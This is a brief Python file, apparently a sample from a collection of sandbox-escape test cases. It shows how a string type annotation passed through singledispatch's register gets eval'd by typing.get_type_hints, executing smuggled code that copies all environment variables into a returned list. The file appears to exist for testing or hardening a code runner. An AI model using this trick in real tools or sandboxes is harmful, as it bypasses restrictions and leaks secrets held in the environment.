# family: runner
# Escape: @handle.register evaluates the parameter annotation with typing.get_type_hints; the annotation is
# Hints.PAYLOAD, an attribute of a tool class (accepted as "a class"), whose value is the STRING
# "exec(CODE) or int". get_type_hints turns a str annotation into a ForwardRef and eval()s it in the module
# globals, so exec runs CODE ("import os ...") and the handler is registered for int.
from functools import singledispatch

CODE = "import os\nLEAK.append(dict(os.environ))"
LEAK: list = []


class Hints:
    PAYLOAD = "exec(CODE) or int"


@singledispatch
def handle(value):
    return value


@handle.register
def _(value: Hints.PAYLOAD):
    return LEAK


def tool(x):
    return handle(x)
